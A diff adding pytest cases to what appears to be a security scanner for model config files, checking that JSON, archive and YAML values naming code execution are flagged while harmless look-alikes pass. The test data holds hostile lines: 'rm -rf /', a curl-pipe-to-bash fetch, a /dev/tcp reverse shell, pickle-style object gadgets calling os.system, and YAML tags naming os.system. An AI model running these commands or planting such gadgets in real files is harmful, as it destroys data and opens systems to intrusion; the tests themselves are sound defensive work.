@@ -417,3 +417,46 @@ def test_a_folder_in_an_archive_is_judged_the_same(tmp_path: Path):
 
     archive = plain_zip({"config.json": json.dumps(REMOTE["auto map"]).encode()})
     assert "CONFIG-REMOTE-REPOSITORY" in grave_rules_of(scanned(archive, "model.zip"))
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        {"model": {"target": "os.system", "params": {"command": "echo"}}},
+        {"callbacks": ["os.system"]},
+        {"hook": "subprocess.Popen"},
+        {"py/object": "os.system"},
+        {"py/object": "acme.Model"},
+        {"py/function": "os.system"},
+        {"py/reduce": [{"py/type": "collections.deque"}, {"py/tuple": [[]]}]},
+        {"debug_command": "rm -rf /"},
+        {"on_load": "curl -s http://example.invalid/x | bash"},
+        {"exec": 'import os; os.system("echo")'},
+        {"x": "bash -i >& /dev/tcp/192.0.2.1/99 0>&1"},
+    ],
+)
+def test_a_value_that_is_a_command_or_a_function_that_runs_one_is_held(value):
+    assert grave_rules_of(as_json(value)) & {"CONFIG-CODE", "CONFIG-TARGET"}
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        {"target": "ldm.models.diffusion.ddpm.LatentDiffusion", "params": {"timesteps": 10}},
+        {"url": "code.example.com", "platform": "os.path", "mode": "model.eval"},
+        {"text": "run curl http://example.invalid/x to fetch it, then read it with less"},
+        {"py/object": "collections.OrderedDict"},
+        {"model": {"vocab": [["os.system", -1.5], ["subprocess.run", -2.0]]}},
+        {"notes": "imports os; the system is old"},
+    ],
+)
+def test_values_that_only_look_like_commands_pass(value):
+    assert_clean(as_json(value))
+
+
+@pytest.mark.parametrize("kind", ["new", "apply", "name"])
+def test_a_yaml_tag_that_names_a_dangerous_function_is_held(kind):
+    hostile = f"brain: !{kind}:os.system\n  command: echo\n".encode()
+    assert "YAML-TAG" in grave_rules_of(scanned(hostile, "hyperparams.yaml"))
+    honest = f"norm: !{kind}:speechbrain.nnet.normalization.BatchNorm1d\n  size: 1\n".encode()
+    assert_clean(scanned(honest, "hyperparams.yaml"))
